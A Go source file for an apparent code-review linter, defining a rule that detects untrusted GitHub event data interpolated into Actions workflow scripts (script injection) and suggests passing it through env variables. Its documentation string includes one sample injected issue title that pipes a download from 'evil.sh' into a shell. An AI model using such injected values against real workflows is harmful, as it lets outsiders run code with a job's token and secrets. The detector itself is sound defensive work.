package security

import (
	"fmt"
	"regexp"
	"strings"

	"go.yaml.in/yaml/v3"

	"github.com/reviewls/reviewls/review"
	"github.com/reviewls/reviewls/review/lens"
	"github.com/reviewls/reviewls/review/syntax"
)

// ActionsScriptInjection finds untrusted GitHub context interpolated into
// the script of a workflow or composite-action step.
var ActionsScriptInjection = &lens.Rule{
	RuleInfo: review.RuleInfo{
		ID:          "security/actions-script-injection",
		Perspective: review.Security,
		Category:    CatInjection,
		Severity:    review.SeverityHigh,
		Languages:   []review.Language{review.LangActions},
		Depth:       review.DepthBasic,
		Skill:       "CWE-94",
		Summary:     "Untrusted input interpolated into a workflow script",
		Doc: "GitHub expands `${{ ... }}` in a `run:` script (or an actions/github-script `script:`) before the shell " +
			"or Node sees it, so the value becomes code. Issue and pull request titles and bodies, comments, review " +
			"bodies, commit messages and author names, branch names (`github.head_ref`, `pull_request.head.ref`) and " +
			"workflow_run head branches are written by whoever opens the issue or pushes the branch: a title such as " +
			"`\"; curl evil.sh | sh; #` runs in the job with its token and secrets. Pass the value through `env:` and " +
			"use the variable, quoted (`\"$TITLE\"`), or read it with a tool that does not evaluate it. `inputs.*` of " +
			"a reusable workflow (workflow_call) or a composite action is reported at Medium: the caller may pass " +
			"such text; workflow_dispatch inputs (typed in by someone with write access) and boolean, number, choice " +
			"and environment inputs are not reported. Expressions in `env:`, `with:` and `if:` are data, not code, " +
			"and are left alone. Each expression is reported once a script.",
		Bad:  "- run: echo \"Title: ${{ github.event.issue.title }}\"",
		Good: "- env:\n    TITLE: ${{ github.event.issue.title }}\n  run: echo \"Title: $TITLE\"",
	},
	Run: runActionsScriptInjection,
}

var (
	ghExprRE = regexp.MustCompile(`\$\{\{(.*?)\}\}`)
	// ghUntrustedRE matches the GitHub context an outsider writes.
	ghUntrustedRE = regexp.MustCompile(`github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)\b` +
		`|github\.event\.(?:comment|review|review_comment)\.body\b` +
		`|github\.event\.pull_request\.head\.(?:ref|label)\b|github\.head_ref\b` +
		`|github\.event\.(?:head_commit|commits(?:\[[^\]]*\]|\.\*)?)\.(?:message|author\.(?:name|email)|committer\.(?:name|email))\b` +
		`|github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:name|email)))\b` +
		`|github\.event\.pages(?:\[[^\]]*\]|\.\*)?\.page_name\b` +
		`|toJSON\(\s*github\.event(?:\.(?:issue|pull_request|comment|review|discussion|head_commit|commits))?\s*\)`)
	ghInputRE = regexp.MustCompile(`\b(?:github\.event\.)?inputs\.([A-Za-z_][\w-]*)`)
)

func runActionsScriptInjection(p *lens.Pass) {
	if !p.Contains("${{") {
		return
	}
	root := syntax.YAML(p.File)
	if root == nil {
		return
	}
	callerInputs, safeInputs := inputsFromCallers(root), typedInputs(root)
	eachScript(root, func(key, script *yaml.Node) {
		seen := map[string]bool{} // one finding an expression a script
		for n := key.Line; n <= scriptEnd(p, key, script); n++ {
			if !p.Changed(n) {
				continue
			}
			line := p.Line(n)
			if n == key.Line {
				line = line[min(len(line), key.Column-1):] // not the step's other keys
			}
			for _, m := range ghExprRE.FindAllStringSubmatchIndex(line, -1) {
				expr := line[m[2]:m[3]]
				what, sev := "", review.SeverityHigh
				if u := ghUntrustedRE.FindString(expr); u != "" {
					what = u
				} else if im := ghInputRE.FindStringSubmatch(expr); im != nil && callerInputs && !safeInputs[im[1]] && !strings.HasPrefix(im[0], "github.") {
					what, sev = im[0], review.SeverityMedium
				}
				if what == "" || seen[what] {
					continue
				}
				seen[what] = true
				off := len(p.Line(n)) - len(line)
				p.Report(lens.Report{
					Line: n, Col: off + m[0] + 1, EndCol: off + m[1] + 1, Severity: sev,
					Message: fmt.Sprintf("`%s` is expanded into the %s before it runs: its text becomes code, and whoever "+
						"writes it can run commands in the job, with its token and secrets.", what, key.Value),
					Suggested: fmt.Sprintf("Pass it through the step's env: (`VALUE: ${{ %s }}`) and use \"$VALUE\" in the script.", what),
					Match:     what,
				})
			}
		}
	})
}

// eachScript calls fn with the key and value of every step script: the run:
// of each step of each job (workflows) or of runs.steps (composite
// actions), and the script: input of actions/github-script.
func eachScript(root *yaml.Node, fn func(key, script *yaml.Node)) {
	steps := func(seq *yaml.Node) {
		if seq == nil || seq.Kind != yaml.SequenceNode {
			return
		}
		for _, step := range seq.Content {
			if k, v := syntax.YAMLKey(step, "run"); v != nil && v.Kind == yaml.ScalarNode {
				fn(k, v)
			}
			if _, uses := syntax.YAMLKey(step, "uses"); uses != nil && strings.HasPrefix(uses.Value, "actions/github-script@") {
				_, with := syntax.YAMLKey(step, "with")
				if k, v := syntax.YAMLKey(with, "script"); v != nil && v.Kind == yaml.ScalarNode {
					fn(k, v)
				}
			}
		}
	}
	_, jobs := syntax.YAMLKey(root, "jobs")
	syntax.YAMLPairs(jobs, func(_, job *yaml.Node) {
		_, s := syntax.YAMLKey(job, "steps")
		steps(s)
	})
	_, runs := syntax.YAMLKey(root, "runs")
	_, s := syntax.YAMLKey(runs, "steps")
	steps(s)
}

// scriptEnd returns the last line of the script value of key: the key's
// line for a plain or quoted scalar on it, else the last line indented
// deeper than the key.
func scriptEnd(p *lens.Pass, key, script *yaml.Node) int {
	if script.Line == key.Line && script.Style&(yaml.LiteralStyle|yaml.FoldedStyle) == 0 && !strings.Contains(script.Value, "\n") {
		return key.Line
	}
	end := key.Line
	for n := key.Line + 1; n <= len(p.Lines()); n++ {
		l := p.Line(n)
		t := strings.TrimLeft(l, " ")
		if t == "" {
			continue
		}
		if len(l)-len(t) < key.Column {
			break
		}
		end = n
	}
	return end
}

// inputsFromCallers reports whether the file's inputs come from a caller
// that may pass anyone's text: a reusable workflow (workflow_call) or a
// composite action. workflow_dispatch inputs are typed in by someone who
// can already write to the repository.
func inputsFromCallers(root *yaml.Node) bool {
	if _, runs := syntax.YAMLKey(root, "runs"); runs != nil {
		return true
	}
	_, on := syntax.YAMLKey(root, "on")
	k, _ := syntax.YAMLKey(on, "workflow_call")
	if k != nil {
		return true
	}
	if on != nil && on.Kind == yaml.SequenceNode {
		for _, t := range on.Content {
			if t.Value == "workflow_call" {
				return true
			}
		}
	}
	return on != nil && on.Value == "workflow_call"
}

// typedInputs returns the names of the workflow's and action's inputs
// whose declared type keeps them from carrying code: boolean, number,
// choice and environment.
func typedInputs(root *yaml.Node) map[string]bool {
	out := map[string]bool{}
	add := func(inputs *yaml.Node) {
		syntax.YAMLPairs(inputs, func(k, v *yaml.Node) {
			if _, t := syntax.YAMLKey(v, "type"); t != nil {
				switch t.Value {
				case "boolean", "number", "choice", "environment":
					out[k.Value] = true
				}
			}
		})
	}
	_, on := syntax.YAMLKey(root, "on")
	for _, trigger := range []string{"workflow_dispatch", "workflow_call"} {
		_, t := syntax.YAMLKey(on, trigger)
		_, inputs := syntax.YAMLKey(t, "inputs")
		add(inputs)
	}
	_, inputs := syntax.YAMLKey(root, "inputs")
	add(inputs)
	return out
}
